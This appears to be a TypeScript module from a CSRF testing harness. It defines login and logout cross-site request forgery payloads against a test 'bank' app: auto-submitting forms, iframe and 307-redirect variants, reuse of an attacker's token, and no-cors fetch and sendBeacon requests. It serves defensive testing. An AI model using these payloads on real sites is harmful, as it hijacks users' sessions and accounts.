/**
 * Attacks on the login: they try to log the victim into the attacker's account, or out of the victim's own.
 *
 * @module
 */

import { autoForm, everywhere, fields, literal, script, type Attack } from './attack.ts'

const credentials = { username: 'bob', password: 'correct horse battery staple' }
const body = `body: new URLSearchParams(${literal(credentials)})`
const noCors = `method: 'POST', mode: 'no-cors', credentials: 'include'`

/** The ways to send credentials. */
const logins: readonly Omit<Attack, 'kind'>[] = [
  {
    name: 'a login form',
    from: everywhere,
    page: ({ url }) => autoForm(url('/login'), { content: fields(credentials) }),
  },
  {
    name: 'a multipart login form',
    page: ({ url }) =>
      autoForm(url('/login'), {
        attributes: 'enctype=multipart/form-data',
        content: fields(credentials),
      }),
  },
  {
    name: "a login form with the attacker's token",
    page: ({ url, foreignToken }) =>
      autoForm(url('/login'), { content: fields({ ...credentials, _csrf: foreignToken }) }),
  },
  {
    name: 'a login form in a frame',
    page: ({ url }) =>
      '<iframe name=hidden hidden></iframe>' +
      autoForm(url('/login'), { attributes: 'target=hidden', content: fields(credentials) }),
  },
  {
    name: 'a login form sent on with 307',
    page: ({ redirect }) => autoForm(redirect(307, '/login'), { content: fields(credentials) }),
  },
  {
    name: 'a login by fetch',
    page: ({ url }) => script(`fetch(${literal(url('/login'))}, { ${noCors}, ${body} })`),
  },
  {
    name: 'a login by fetch, as JSON',
    hopeless: 'the browser asks first, and the bank has no CORS',
    page: ({ url }) =>
      script(`fetch(${literal(url('/login'))}, { method: 'POST', credentials: 'include',
        headers: { 'Content-Type': 'application/json' }, body: ${literal(JSON.stringify(credentials))} })`),
  },
]

/** Logins, while the victim is logged in and while not, and logouts. */
export const accounts: readonly Attack[] = [
  ...logins.map((attack): Attack => ({ ...attack, kind: 'login' })),
  ...logins.map((attack): Attack => ({
    ...attack,
    kind: 'login',
    name: `${attack.name}, while nobody is logged in`,
    anonymous: true,
  })),
  {
    name: 'a logout form',
    kind: 'login',
    from: everywhere,
    page: ({ url }) => autoForm(url('/logout')),
  },
  {
    name: 'a logout form with a token of the attacker',
    kind: 'login',
    page: ({ url, foreignToken }) =>
      autoForm(url('/logout'), { content: fields({ _csrf: foreignToken }) }),
  },
  {
    name: 'a logout by fetch',
    kind: 'login',
    page: ({ url }) => script(`fetch(${literal(url('/logout'))}, { ${noCors} })`),
  },
  {
    name: 'a logout by sendBeacon',
    kind: 'login',
    page: ({ url }) => script(`navigator.sendBeacon(${literal(url('/logout'))}, '')`),
  },
]
